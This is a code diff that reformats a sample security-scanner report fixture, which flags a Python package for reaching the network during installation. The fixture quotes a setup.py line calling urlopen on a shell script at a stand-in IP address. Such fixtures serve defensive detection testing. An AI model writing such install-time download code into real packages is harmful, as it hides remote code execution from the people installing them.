@@ -13,7 +13,13 @@ export const sampleReport: Report = {
   },
   verdict: {
     level: 'fail',
-    reasons: [{ issue: 'install-time-network-access', severity: 'high', title: 'Reaches the network while it is being installed.' }],
+    reasons: [
+      {
+        issue: 'install-time-network-access',
+        severity: 'high',
+        title: 'Reaches the network while it is being installed.',
+      },
+    ],
   },
   issues: [
     {
@@ -27,7 +33,13 @@ export const sampleReport: Report = {
       detail: 'setup.py downloads from http://203.0.113.9:8080/x.sh',
       references: { reversinglabs: ['TH16105'] },
       evidence: [
-        { behavior: 'uses-http-client', file: 'setup.py', line: 7, column: 1, snippet: 'urlopen("http://203.0.113.9:8080/x.sh")' },
+        {
+          behavior: 'uses-http-client',
+          file: 'setup.py',
+          line: 7,
+          column: 1,
+          snippet: 'urlopen("http://203.0.113.9:8080/x.sh")',
+        },
       ],
       prevalence: null,
     },
